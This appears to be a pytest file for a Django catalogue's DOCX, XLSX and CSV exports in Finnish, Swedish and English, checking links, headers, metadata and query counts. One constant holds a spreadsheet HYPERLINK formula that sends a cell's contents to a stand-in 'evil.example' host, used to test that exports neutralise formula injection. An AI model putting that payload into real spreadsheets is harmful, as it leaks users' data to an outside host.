"""Word and Excel as their users have them: the shortlist's DOCX and XLSX, the list's XLSX,
opened with python-docx and openpyxl as Word and Excel would open them, in fi, sv and en."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml.ns import qn
from openpyxl import load_workbook

from models_catalog.listing import filtered_for_export
from models_catalog.models import OperatingModel
from tests.factories import OperatingModelFactory

pytestmark = pytest.mark.django_db

LANGUAGES = {
    "fi": (
        "fi-FI",
        "MITO-toimintamallit",
        "Toimintamallit hyvinvointisuunnitelmaan",
        "Lisää mallista",
    ),
    "sv": (
        "sv-FI",
        "MITO-verksamhetsmodeller",
        "Verksamhetsmodeller för välfärdsplanen",
        "Mer om modellen",
    ),
    "en": (
        "en-GB",
        "MITO operating models",
        "Operating models for the wellbeing plan",
        "More about the model",
    ),
}
NOTE = "Sopii Äänekoskelle ja Åboland-väelle: yöllä öljyä."
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")'
SLUGS = ["mielikioski", "digimieli"]
ENGLISH_LABELS = [
    "Who gets the health benefit",
    "Who the work is done with",
    "Implementer:",
    "Area:",
    "Steps",
    "Materials",
    "More about",
    "Why it fits",
]


def url(name, language, *args, query=""):
    with translation.override(language):
        return reverse(f"models_catalog:{name}", args=args) + query


def shortlist_with_notes(client, notes):
    for slug in notes:
        client.post(reverse("models_catalog:shortlist_add"), {"slug": slug, "next": "/"})
    client.post(reverse("models_catalog:shortlist"), {f"note-{s}": n for s, n in notes.items()})


def docx_links(document) -> list[str]:
    """The targets of the document's w:hyperlink elements, in the order they appear."""
    rels = document.part.rels
    return [
        rels[link.get(qn("r:id"))].target_ref
        for link in document.element.body.iter(qn("w:hyperlink"))
        if rels[link.get(qn("r:id"))].reltype == RELATIONSHIP_TYPE.HYPERLINK
    ]


@pytest.mark.parametrize("language", LANGUAGES)
def test_docx_has_real_links_the_page_language_and_the_catalogue_as_author(
    client, catalogue, language
):
    word_language, catalogue_name, title, more = LANGUAGES[language]
    shortlist_with_notes(client, {"mielikioski": NOTE, "digimieli": ""})
    response = client.get(url("shortlist_download", language, "docx"))
    document = Document(io.BytesIO(response.content))

    models = [OperatingModel.objects.get(slug=slug) for slug in SLUGS]
    expected = []
    for model in models:
        expected += [material.url for material in model.materials.all()]
        with translation.override(language):
            expected.append(f"http://testserver{model.get_absolute_url()}")
        expected.append(model.innokyla_url)
    assert docx_links(document) == expected

    properties = document.core_properties
    assert properties.title == title
    assert properties.author == catalogue_name
    assert properties.last_modified_by == catalogue_name
    assert abs(properties.created - timezone.now()) < timedelta(minutes=1)
    defaults = document.styles.element.find(qn("w:docDefaults"))
    assert {lang.get(qn("w:val")) for lang in defaults.iter(qn("w:lang"))} == {word_language}

    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert NOTE in text  # ä, ö and å as typed
    assert f"{more}: " in text
    if language != "en":  # every label in the page's language
        for label in [*ENGLISH_LABELS, "More:"]:
            assert label not in text
    with translation.override(language):
        assert models[0].name in text


@pytest.mark.parametrize("language", LANGUAGES)
def test_shortlist_xlsx_has_the_notes_links_and_translated_headers(client, catalogue, language):
    shortlist_with_notes(client, {"mielikioski": NOTE, "digimieli": FORMULA + "\x0b"})
    response = client.get(url("shortlist_download", language, "xlsx"))
    assert response["Content-Type"].endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert header[0] == {"fi": "Nimi", "sv": "Namn", "en": "Name"}[language]
    with translation.override(language):
        names = [OperatingModel.objects.get(slug=slug).name for slug in SLUGS]
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == names
    note = header.index({"fi": "Muistiinpano", "sv": "Anteckning", "en": "Note"}[language])
    first, second = sheet[2], sheet[3]
    assert first[note].value == NOTE
    # A note that looks like a formula is text, shown as typed, never run; no control character.
    assert second[note].value == FORMULA
    assert second[note].data_type == "s"
    assert second[note].quotePrefix
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    address = header.index({"fi": "Osoite", "sv": "Adress", "en": "Address"}[language])
    with translation.override(language):
        page = OperatingModel.objects.get(slug="mielikioski").get_absolute_url()
    assert first[address].hyperlink.target == f"http://testserver{page}"
    innokyla = OperatingModel.objects.get(slug="mielikioski").innokyla_url
    link = header.index(
        {"fi": "Innokylä-linkki", "sv": "Länk till Innokylä", "en": "Innokylä link"}[language]
    )
    assert first[link].hyperlink.target == innokyla
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width >= 30
    properties = load_workbook(io.BytesIO(response.content)).properties
    assert properties.creator == LANGUAGES[language][1]  # the catalogue, not "openpyxl"


def test_shortlist_csv_keeps_its_columns_and_adds_implementer_area_and_innokyla(client, catalogue):
    shortlist_with_notes(client, {"mielikioski": NOTE})
    body = client.get(url("shortlist_download", "fi", "csv")).content.decode("utf-8")
    assert body.startswith("\ufeff")
    header, row = list(csv.reader(io.StringIO(body[1:])))
    model = catalogue[13]
    assert header[:7] == [
        "Nimi",
        "Teema",
        "Terveyshyödyn saava kohderyhmä",
        "Vaiheet",
        "Materiaalit",
        "Muistiinpano",
        "Osoite",
    ]
    assert header[7:] == ["Toteuttaja", "Alue", "Innokylä-linkki"]
    assert row[5] == NOTE
    assert row[7:] == [model.implementer_text, model.area_text, model.innokyla_url]


@pytest.mark.parametrize(
    ("language", "query"),
    [("fi", "?county=pirkanmaa"), ("sv", "?q=nuoret"), ("en", ""), ("fi", "?q=yksinäisyys")],
)
def test_list_xlsx_has_exactly_the_lists_models_with_links(client, catalogue, language, query):
    response = client.get(url("export_xlsx", language, query=query))
    sheet = load_workbook(io.BytesIO(response.content)).active
    with translation.override(language):
        expected = [model.name for model in filtered_for_export(QueryDict(query.lstrip("?")))]
        csv_body = client.get(url("export_csv", language, query=query)).content.decode()
    assert expected  # each query finds something, so the comparison means something
    names = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert names == expected
    assert names == [row[1] for row in list(csv.reader(io.StringIO(csv_body[1:])))[1:]]
    header = [cell.value for cell in sheet[1]]
    link = header.index(
        {"fi": "Innokylä-linkki", "sv": "Länk till Innokylä", "en": "Innokylä link"}[language]
    )
    for row in sheet.iter_rows(min_row=2):
        assert row[link].hyperlink.target == row[link].value.strip()
        assert isinstance(row[0].value, int)  # the number is a number
    assert sheet.freeze_panes == "A2"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_list_xlsx_neutralises_editor_text_and_control_characters(client, catalogue):
    OperatingModel.objects.filter(pk=catalogue[13].pk).update(
        theme_fi="=1+1", goals_fi="-vähentää yksinäisyyttä", results_fi="a\x0bb"
    )
    sheet = load_workbook(io.BytesIO(client.get(url("export_xlsx", "fi")).content)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "Mielikioski")
    cells = {cell.value: cell for cell in row}
    assert cells["=1+1"].data_type == "s"
    assert cells["=1+1"].quotePrefix
    assert cells["-vähentää yksinäisyyttä"].quotePrefix
    assert "ab" in cells


def test_list_and_shortlist_pages_link_to_the_xlsx(client, catalogue):
    html = client.get("/sv/?county=pirkanmaa").content.decode()
    assert '/sv/toimintamallit.xlsx?county=pirkanmaa"' in html
    assert "Excel (XLSX)" in html
    shortlist_with_notes(client, {"mielikioski": ""})
    html = client.get(url("shortlist", "sv")).content.decode()
    assert 'name="download" value="xlsx"' in html
    assert "Tabell för Excel (XLSX)" in html


def queries(client, address) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(address)
        assert response.content  # a streamed download runs its queries as it is read
    assert response.status_code == 200
    return len(captured)


def test_list_xlsx_runs_as_many_queries_for_one_model_as_for_many(client, catalogue):
    address = url("export_xlsx", "fi")
    OperatingModel.objects.exclude(pk=catalogue[13].pk).update(is_published=False)
    assert OperatingModel.objects.published().count() == 1
    one = queries(client, address)
    OperatingModel.objects.update(is_published=True)
    for _ in range(5):
        OperatingModelFactory()
    assert OperatingModel.objects.published().count() == 20
    assert queries(client, address) == one


@pytest.mark.parametrize("kind", ["docx", "xlsx", "csv"])
def test_shortlist_downloads_run_as_many_queries_for_one_model_as_for_many(client, catalogue, kind):
    shortlist_with_notes(client, {"mielikioski": NOTE})
    one = queries(client, url("shortlist_download", "fi", kind))
    shortlist_with_notes(client, dict.fromkeys(["digimieli", "hyvan-mielen-kunta"], NOTE))
    shortlist_with_notes(client, {model.slug: "" for model in list(catalogue.values())[:8]})
    assert len(client.session["shortlist"]["slugs"]) >= 8
    assert queries(client, url("shortlist_download", "fi", kind)) == one
